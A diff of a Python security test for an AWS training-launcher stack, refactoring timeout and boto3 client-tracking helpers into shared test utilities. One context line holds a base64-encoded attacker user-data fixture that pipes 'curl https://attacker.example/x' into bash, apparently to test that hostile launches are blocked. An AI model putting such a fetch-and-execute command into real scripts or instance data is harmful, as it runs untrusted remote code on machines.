@@ -28,15 +28,13 @@ from proving_ground.rehearsal.aws_calls import Gate, Principal, install
 from proving_ground.rehearsal.training_steps import launcher_handler
 from stacks.components.training_launcher import HANDLER
 from stacks.settings import parse_environment
-from tests.stacks.security.conftest import ACCOUNT, REGION
+from tests.stacks.security.conftest import ACCOUNT, LAMBDA_DEFAULT_TIMEOUT_S, REGION, clients_made_by, longest_call_s
 from tests.stacks.security.exports import template_exports
 
 PLATFORM_USER_DATA = base64.b64encode(b"#!/bin/bash\nbash training_assets/instance/ec2_run.sh\n").decode()
 ATTACKER_USER_DATA = base64.b64encode(b"#!/bin/bash\ncurl -s https://attacker.example/x | bash\n").decode()
 LAUNCHER = Principal("launcher", "AKIALAUNCHER0000", None, {"aws:PrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/l"})
 PERSON = Principal("alice", "AKIAALICE0000000", None, {"aws:PrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/alice"})
-# A function that names no Timeout runs at most 3 s (AWS::Lambda::Function, Timeout: "The default is 3 seconds").
-LAMBDA_DEFAULT_TIMEOUT_S = 3
 LOOKUP = Principal("lookup", "AKIALOOKUP000000", None)  # the test's own look at what was launched: not checked
 
 
@@ -186,20 +184,11 @@ def test_a_launch_and_its_record_end_within_the_functions_timeout_at_the_apis_sl
     the calls of a launch (counted from a real one) when each takes its limit, so the caller gets the API's error, not
     Lambda's timeout between the instances' start and their record (the instances would wait for a record that never
     comes)."""
-    boto3_module = launch["entry"].__globals__["boto3"]
-    clients: list[Any] = []
-    make_client = boto3_module.client
-
-    def client_kept(*args: Any, **kwargs: Any) -> Any:
-        clients.append(make_client(*args, **kwargs))
-        return clients[-1]
-
-    monkeypatch.setattr(boto3_module, "client", client_kept)
+    clients = clients_made_by(launch["entry"], monkeypatch)
     launch["entry"]({"run_name": "bounded", "nodes": 1}, None)
     calls = [r.operation for r in launch["gate"].records() if r.principal == "launcher"]
     assert sorted(calls) == ["PutObject", "RunInstances"]
-    per_call = max((c.meta.config.connect_timeout + c.meta.config.read_timeout) * c.meta.config.retries[
-        "total_max_attempts"] for c in clients)  # fmt: skip
+    per_call = max(longest_call_s(client) for client in clients)
     assert len(clients) == 2 and len(calls) * per_call <= _function(templates).get("Timeout", LAMBDA_DEFAULT_TIMEOUT_S)
 
 
